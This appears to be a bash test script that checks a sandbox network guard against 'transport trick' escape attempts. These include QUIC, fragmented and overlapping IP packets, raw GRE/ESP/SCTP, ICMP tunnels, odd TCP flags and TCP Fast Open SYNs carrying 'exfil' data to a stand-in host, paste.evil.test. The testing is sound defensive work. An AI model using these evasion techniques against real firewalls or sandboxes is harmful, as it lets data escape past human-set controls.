# Escape attempts, class "transport tricks": QUIC (UDP 443), IP fragments
# (tiny first fragment, overlapping, a non-first fragment alone, IPv6),
# raw IP protocols (GRE, SCTP, ESP, an unassigned one), ICMP carrying data
# (echo, timestamp, an ICMP error quoting an allowed flow so that conntrack
# calls it related), TCP with odd flags (SYN+FIN, no SYN, ACK only, ...)
# and TCP Fast Open data in the SYN. All crafted from sandbox 1 on layer 2
# (tests/escape/craft.py). Evidence: the upstream capture, the verdict log,
# or the counter of the rule that drops before any verdict.
. "$PC_TOP/tests/escape/escape_lib.bash"

esc_init transport "Transport tricks"
esc_up 2
rec_reason() { esc_reason "\"destination.ip\":\"$1\"$2"; }
successes() { # address port: allowed connect records to it
	guard_records | grep '"event.outcome":"success"' |
		grep -cF "\"destination.ip\":\"$1\",\"destination.port\":$2," | tr -d ' '
}
t_match "sandbox 1 resolves api.github.test (its address is learned)" "$LAB_API4" \
	"$(lab_sb 1 dig +short +time=2 +tries=1 api.github.test A)"

# ---- QUIC ------------------------------------------------------------------------------
esc_begin "QUIC (UDP 443) to api.github.test, whose entry allows TCP 443 only"
esc_craft 1 udp --dst $LAB_API4 --dport 443 --quic --count 3 >/dev/null
esc_refused "quic api" "udp and dst host $LAB_API4" \
	"\"destination.ip\":\"$LAB_API4\",\"destination.port\":443,\"network.transport\":\"udp\"" "$ESC_REFUSED_RE|not allowed"
esc_end "ICMP admin-prohibited" "upstream capture: 0 UDP packets to $LAB_API4; log: \"$r\""

esc_begin "QUIC (UDP 443) to an address no rule names (paste.evil.test)"
esc_craft 1 udp --dst $LAB_PASTE4 --dport 443 --quic --count 3 >/dev/null
esc_refused "quic paste" "dst host $LAB_PASTE4" "\"destination.ip\":\"$LAB_PASTE4\",\"destination.port\":443,\"network.transport\":\"udp\""
esc_end "ICMP admin-prohibited" "upstream capture: 0 packets; log: \"$r\""

esc_begin "QUIC from a real client stack: curl --http3-only is not built here; UDP 443 via socat to the IPv6 address"
echo probe | lab_sb 1 socat -T 1 - "UDP6:[$LAB_API6]:443" >/dev/null 2>&1
esc_refused "quic api6" "ip6 and udp and dst host $LAB_API6" "\"destination.ip\":\"$LAB_API6\",\"destination.port\":443,\"network.transport\":\"udp\""
esc_end "ICMPv6 admin-prohibited" "upstream capture: 0 packets; log: \"$r\""

# ---- fragments ----------------------------------------------------------------------------
reasm() { lab_gw nstat -az "$1" | awk -v k="$1" '$1 == k {print $2}'; }
esc_begin "a tiny first fragment (8 bytes: ports only, flags in the second) to paste.evil.test:443"
esc_craft 1 frag --dst $LAB_PASTE4 --dport 443 --kind tiny >/dev/null
esc_expect_nothing "tiny" "dst host $LAB_PASTE4"
r=$(rec_reason $LAB_PASTE4 ',"destination.port":443,')
t_match "reassembled before the guard, then judged as the SYN it is: refused" "$ESC_REFUSED_RE" "$r"
esc_end "refused after reassembly" "upstream capture: 0 packets; log: \"$r\" (conntrack's defragmentation runs before the -190 chain)"

esc_begin "overlapping fragments: a SYN to port 9 whose header a second, longer fragment at the same offset rewrites to port 443 (paste.evil.test)"
f0=$(($(reasm IpReasmFails) + $(reasm IpExtReasmOverlaps)))
esc_craft 1 frag --dst $LAB_PASTE4 --dport 443 --kind overlap --data overlap >/dev/null
esc_expect_nothing "overlap" "dst host $LAB_PASTE4"
f1=$(($(reasm IpReasmFails) + $(reasm IpExtReasmOverlaps)))
t_ok "no allowed record for it" test -z "$(guard_records | grep '"event.outcome":"success"' | grep -F "$LAB_PASTE4")"
t_lt "the kernel threw the overlapping datagram away (IpReasmFails, IpExtReasmOverlaps)" "$f0" "$f1"
esc_end "dropped" "upstream capture: 0 packets; gateway IpReasmFails+IpExtReasmOverlaps +$((f1 - f0)) (overlapping IPv4 fragments are discarded whole)"

esc_begin "a non-first fragment alone (offset 8, no first) to paste.evil.test:443"
q0=$(reasm IpReasmReqds)
esc_craft 1 frag --dst $LAB_PASTE4 --dport 443 --kind nonfirst --data nonfirst >/dev/null
esc_expect_nothing "nonfirst" "dst host $LAB_PASTE4"
t_lt "held for reassembly, never completed (IpReasmReqds)" "$q0" "$(reasm IpReasmReqds)"
t_ok "never judged, never allowed" test -z "$(guard_records | grep '"event.outcome":"success"' | grep -F "$LAB_PASTE4")"
esc_end "dropped (reassembly never completes)" "upstream capture: 0 packets; IpReasmReqds +1, no record"

for k in tiny6 overlap6 nonfirst6; do
	esc_begin "IPv6 fragments ($k) of a SYN to [2001:db8:10::10]:443 (not resolved by address)"
	esc_craft 1 frag --dst $LAB_API6 --dport 443 --kind $k --data frag6 >/dev/null
	esc_expect_nothing "$k" "ip6 and dst host $LAB_API6"
	t_ok "$k: never allowed" test -z "$(guard_records | grep '"event.outcome":"success"' | grep -F "\"destination.ip\":\"$LAB_API6\"")"
	r=$(rec_reason $LAB_API6 ',"destination.port":443,')
	esc_end "dropped/refused" "upstream capture: 0 packets; $([ "$r" = "(no record)" ] && echo "no record (never reassembled)" || echo "log: \"$r\"")"
done

# ---- raw IP protocols -------------------------------------------------------------------
for pr in "47 gre GRE" "132 sctp SCTP" "50 esp ESP" "253 253 this IP protocol"; do
	set -- $pr
	num=$1 tname=$2
	shift 2
	for dst in $LAB_DIRECT4 $LAB_PASTE4 $LAB_SSH6; do
		esc_begin "IP protocol $num ($*) to $dst$([ $dst = $LAB_DIRECT4 ] && echo ', an address allowed with proto any')"
		esc_craft 1 proto --dst $dst --proto $num --count 2 >/dev/null
		esc_expect_nothing "proto $num to $dst" "dst host $dst and (ip proto $num or ip6 proto $num)"
		r=$(esc_reason "\"destination.ip\":\"$dst\".*\"network.transport\":\"$tname\"")
		t_eq "logged with its reason" "$* is never allowed" "$r"
		esc_end "ICMP admin-prohibited" "upstream capture: 0 packets of protocol $num; log: \"$r\""
	done
done

# ---- ICMP with data ----------------------------------------------------------------------
for dst in $LAB_SSH4 $LAB_RESOLVER4 $LAB_SSH6; do
	esc_begin "ICMP echo carrying 1000 bytes of data to $dst (an allowed address / the resolver)"
	esc_craft 1 icmp --dst $dst --data "$(head -c 1000 /dev/zero | tr '\0' 'X')" --count 2 >/dev/null
	esc_expect_nothing "echo to $dst" "dst host $dst and (icmp or icmp6)"
	r=$(esc_reason "\"destination.ip\":\"$dst\",\"network.transport\":\"(icmp|ipv6-icmp)\"")
	t_match "logged with its reason" "^ICMP(v6)? is never allowed$" "$r"
	esc_end "ICMP admin-prohibited" "upstream capture: 0 ICMP packets; log: \"$r\""
done

esc_begin "ICMP timestamp and address-mask requests (types 13, 17) to an allowed address"
esc_craft 1 icmp --dst $LAB_SSH4 --type 13 --data tunnel >/dev/null
esc_craft 1 icmp --dst $LAB_SSH4 --type 17 --data tunnel >/dev/null
esc_expect_nothing "icmp 13/17" "dst host $LAB_SSH4 and icmp"
esc_end "refused" "upstream capture: 0 ICMP packets"

# An allowed flow held open, and an ICMP error that quotes its reply
# direction: conntrack calls such an error RELATED to the allowed flow.
lab_sb 1 socat -T 30 - TCP:$LAB_SSH4:22 </dev/zero >/dev/null 2>&1 &
hold=$!
for i in $(seq 1 40); do
	sport=$(lab_sb 1 ss -Htn state established "dst $LAB_SSH4" | awk '{print $3}' | sed 's/.*://' | head -1)
	[ -n "$sport" ] && break
	sleep 0.1
done
t_match "an allowed flow to $LAB_SSH4:22 is open (port $sport)" "^[0-9]+$" "$sport"
esc_begin "an ICMP error quoting the allowed flow (conntrack: related), sent to paste.evil.test with data"
esc_craft 1 icmp-error --dst $LAB_PASTE4 --inner-src $LAB_SSH4 --inner-sport "$sport" --inner-dport 22 \
	--data tunnel-in-icmp-error >/dev/null
esc_expect_nothing "icmp error to paste" "dst host $LAB_PASTE4"
r=$(esc_reason "\"destination.ip\":\"$LAB_PASTE4\",\"network.transport\":\"icmp\"")
esc_end "dropped" "upstream capture: 0 packets to $LAB_PASTE4; $([ "$r" = "(no record)" ] && echo 'no record (conntrack does not relate an error whose addresses do not fit the flow)' || echo "log: \"$r\"")"

esc_begin "the same ICMP error sent to the allowed flow's own server (related, but with a tunnel's payload)"
esc_craft 1 icmp-error --dst $LAB_SSH4 --inner-src $LAB_SSH4 --inner-sport "$sport" --inner-dport 22 \
	--data tunnel-in-icmp-error >/dev/null
n=$(esc_upstream "dst host $LAB_SSH4 and icmp")
r=$(esc_reason "\"destination.ip\":\"$LAB_SSH4\",\"network.transport\":\"icmp\"")
if [ "$n" = 0 ]; then
	t_eq "nothing reached the server" 0 "$n"
	esc_end "dropped" "upstream capture: 0 ICMP packets; $r"
else
	# an approved destination receiving an error about its own flow is what
	# related means; the threat model leaves channels to approved hosts out
	t_ok "it reached only the allowed flow's own server" test "$(esc_upstream "icmp and not dst host $LAB_SSH4")" = 0
	esc_end "passes to the flow's own server (related ICMP error)" \
		"upstream capture: $n ICMP packets, all to $LAB_SSH4 (an approved destination: out of scope, docs/threat-model.md)" limit
fi
kill $hold 2>/dev/null

# ---- TCP flags ---------------------------------------------------------------------------
for fl in SF SR "" F A FPU SA R; do
	for dst in $LAB_DIRECT4:80 $LAB_PASTE4:443; do
		esc_begin "TCP flags '${fl:-none}' to $dst$([ $dst = $LAB_DIRECT4:80 ] && echo ' (an allowed address and port)')"
		s0=$(successes "${dst%:*}" "${dst#*:}")
		esc_craft 1 tcp --dst ${dst%:*} --dport ${dst#*:} --flags "$fl" --data probe --count 2 >/dev/null
		esc_expect_nothing "flags ${fl:-none} $dst" "src host $SB1_4 and dst host ${dst%:*} and tcp port ${dst#*:}"
		r=$(esc_reason "\"destination.ip\":\"${dst%:*}\",\"destination.port\":${dst#*:},\"network.transport\":\"tcp\"")
		case $r in
		"TCP segment of no connection the guard allowed") ev="RST; log: \"$r\"" ;;
		*) ev="dropped before any verdict (conntrack: invalid; prerouting's last rule)" ;;
		esac
		t_eq "no new allowed record" "$s0" "$(successes "${dst%:*}" "${dst#*:}")"
		esc_end "refused" "upstream capture: 0 packets; $ev"
	done
done

# ---- TCP Fast Open ------------------------------------------------------------------------
esc_begin "TCP Fast Open: a SYN with a cookie option and data to api.github.test:443 (a host entry)"
esc_craft 1 tcp --dst $LAB_API4 --dport 443 --flags S --tfo --data "GET /exfil HTTP/1.1" >/dev/null
n=$(esc_upstream "dst host $LAB_API4 and tcp port 443 and tcp[tcpflags] & tcp-syn != 0 and greater 60")
t_eq "no SYN with data reached the server" 0 "$n"
r=$(rec_reason $LAB_API4 ',"destination.port":443,')
t_eq "logged with its reason" "data in a SYN (TCP Fast Open) to a named host" "$r"
esc_end "RST" "upstream capture: 0 SYNs carrying data; log: \"$r\""

esc_begin "TCP Fast Open data in a SYN to paste.evil.test:443"
esc_craft 1 tcp --dst $LAB_PASTE4 --dport 443 --flags S --tfo --data "exfil" >/dev/null
esc_refused "tfo paste" "dst host $LAB_PASTE4" "\"destination.ip\":\"$LAB_PASTE4\",\"destination.port\":443,"
esc_end "RST" "upstream capture: 0 packets; log: \"$r\""

t_match "after all this, allowed flows still work" "^api.github.test ok" \
	"$(lab_sb 1 curl -sS --max-time 4 --cacert "$LAB_CA" https://api.github.test/)"
t_ok "the engine is still running" guard_cli status
t_ok "the verdict log verifies" guard_cli log verify
t_done
